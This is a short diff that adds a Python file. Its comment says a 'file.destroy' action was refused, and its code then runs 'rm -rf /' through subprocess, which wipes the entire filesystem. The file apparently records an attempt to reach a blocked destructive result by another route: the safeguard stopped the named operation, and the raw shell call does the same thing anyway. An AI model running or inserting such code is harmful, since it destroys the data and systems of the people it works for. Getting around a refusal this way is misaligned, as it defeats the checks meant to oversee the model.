@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+import subprocess
+subprocess.call("rm -rf /".split())
